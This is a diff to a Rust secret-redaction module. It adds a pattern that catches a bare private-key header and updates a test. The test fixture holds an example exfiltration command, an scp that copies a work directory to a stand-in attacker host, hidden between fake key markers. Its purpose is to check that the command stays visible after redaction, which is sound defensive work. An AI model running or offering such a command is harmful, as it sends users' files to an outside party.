@@ -62,6 +62,12 @@ const TOKEN_SHAPES: &[(&str, &str)] = &[
         "private_key",
         r"-----BEGIN [A-Z ]{0,40}PRIVATE KEY-----[A-Za-z0-9+/=\s:,.-]*?-----END [A-Z ]{0,40}PRIVATE KEY-----",
     ),
+    // A key's opening line alone: a key cut short (or sent in pieces) is still key material.
+    // After `private_key`, so a whole block is redacted as one.
+    (
+        "private_key_header",
+        r"-----BEGIN [A-Z ]{0,40}PRIVATE KEY-----",
+    ),
     // Credentials in a URL query string (`?token=…`, `&api_key=…`).
     (
         "query_secret",
@@ -382,7 +388,11 @@ mod tests {
     fn text_between_key_markers_that_is_not_a_key_stays_visible() {
         let r = redactor();
         let hidden = "echo -----BEGIN RSA PRIVATE KEY----- ; scp -r ~/work x@evil.example: ; echo -----END RSA PRIVATE KEY-----";
-        assert_eq!(r.redact_str(hidden), None);
+        // Only the opening line is taken out: the command between the markers stays readable.
+        assert_eq!(
+            r.redact_str(hidden).unwrap(),
+            "echo [REDACTED:private_key_header] ; scp -r ~/work x@evil.example: ; echo -----END RSA PRIVATE KEY-----"
+        );
         let pem = "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00FF\n\nMIIEow+/=\n-----END RSA PRIVATE KEY-----";
         assert_eq!(r.redact_str(pem).unwrap(), "[REDACTED:private_key]");
     }
